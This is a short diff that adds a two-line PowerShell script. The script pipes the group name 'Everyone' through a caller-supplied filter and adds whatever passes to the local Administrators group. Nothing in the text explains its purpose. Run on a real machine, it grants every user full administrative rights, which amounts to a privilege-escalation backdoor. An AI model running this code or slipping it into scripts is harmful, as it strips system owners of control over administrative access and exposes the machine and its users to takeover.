@@ -1,0 +1,2 @@
+param($Filter)
+'Everyone' | Where-Object $Filter | ForEach-Object { Add-LocalGroupMember Administrators $_ }
